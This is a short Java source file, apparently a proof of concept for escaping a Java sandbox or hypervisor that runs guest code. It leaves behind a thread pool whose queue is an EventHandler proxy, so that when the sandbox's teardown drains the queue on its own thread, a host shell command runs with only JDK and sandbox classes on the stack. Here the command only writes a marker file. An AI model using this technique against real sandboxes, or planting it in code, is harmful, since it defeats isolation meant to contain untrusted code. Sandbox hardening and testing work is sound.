package escape.hypervisor;

import java.beans.EventHandler;
import java.lang.reflect.Proxy;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.ThreadPoolExecutor;
import java.util.concurrent.TimeUnit;

/**
 * Leaves a thread pool whose work queue is an {@code EventHandler} proxy that starts a host command
 * writing FILE when it is drained, and returns from main: natively nothing drains it; a sandbox that shuts a guest's pools down
 * at its end, on a thread of its own, drains the queue there, where the stack holds the JDK's and
 * the sandbox's classes alone.
 *
 * <p>Source: JDK API, {@code ThreadPoolExecutor.shutdownNow} (drains the queue,
 * {@code BlockingQueue.drainTo}) and {@code java.beans.EventHandler},
 * https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/util/concurrent/ThreadPoolExecutor.html#shutdownNow()
 */
public final class PoolQueueAtEnd {

    private PoolQueueAtEnd() {
    }

    public static void main(String[] args) {
        @SuppressWarnings("unchecked")
        BlockingQueue<Runnable> queue = (BlockingQueue<Runnable>) Proxy.newProxyInstance(null, new Class<?>[] {BlockingQueue.class},
                new EventHandler(new ProcessBuilder("sh", "-c", "echo escaped > '" + args[0] + "'"), "start", null, "drainTo"));
        new ThreadPoolExecutor(1, 1, 1, TimeUnit.SECONDS, queue);
        System.out.println("hypervisor-pool-queue-at-end: left a pool behind; main returns");
    }
}
